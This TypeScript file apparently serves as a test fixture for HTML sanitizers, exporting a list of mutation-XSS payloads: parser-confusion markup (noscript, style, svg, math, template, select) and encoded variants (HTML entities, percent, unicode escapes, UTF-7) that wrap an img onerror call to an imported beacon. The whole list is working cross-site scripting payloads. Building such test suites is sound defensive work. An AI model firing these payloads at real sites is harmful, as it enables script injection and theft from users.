import { CALL } from './beacon.ts';

const RUNS = `<img src=x onerror=${CALL}>`;

/** What a sanitizer lets through, and a parser makes something else of when it reads it again. */
export const MUTATIONS: readonly string[] = [
  `<noscript><p title="</noscript>${RUNS}">`,
  `<style><style/>${RUNS}`,
  `<svg></p><style><a id="</style>${RUNS}">`,
  `<math><mtext><table><mglyph><style><!--</style>${RUNS}`,
  `<math><mtext><table><mglyph><style><math>${RUNS}`,
  `<form><math><mtext></form><form><mglyph><style></math>${RUNS}`,
  `<svg><desc><title><style></title>${RUNS}</style></title></desc></svg>`,
  `<select><style></select>${RUNS}</style></select>`,
  `<table><td><select><option><td>${RUNS}`,
  `<textarea><p title="</textarea>${RUNS}">`,
  `<title><p title="</title>${RUNS}">`,
  `<xmp><p title="</xmp>${RUNS}">`,
  `<noembed><p title="</noembed>${RUNS}">`,
  `<noframes><p title="</noframes>${RUNS}">`,
  `<iframe><p title="</iframe>${RUNS}">`,
  `<plaintext></plaintext>${RUNS}`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<template><style></template>${RUNS}</style></template>`,
  `<p id="&lt;/p&gt;${RUNS.replaceAll('<', '&lt;')}">x</p>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `&#x3c;img src=x onerror=${CALL}&#x3e;`,
  `&LT;img src=x onerror=${CALL}&GT;`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
  `%253Cimg%2520onerror%253D${CALL}%253E`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
  `+ADw-img src=x onerror=${CALL}+AD4-`,
  `¼img src=x onerror=${CALL}¾`,
];
